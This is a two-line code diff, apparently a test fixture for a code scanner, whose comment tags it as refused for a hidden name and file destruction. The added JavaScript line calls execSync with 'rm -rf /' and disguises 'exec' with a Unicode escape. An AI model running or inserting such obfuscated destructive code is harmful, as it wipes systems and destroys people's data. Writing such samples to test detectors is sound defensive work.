@@ -1,0 +1,2 @@
+// nacre: refused code.hidden-name file.destroy
+require('child_process').ex\u{000065}cSync('rm -rf /');
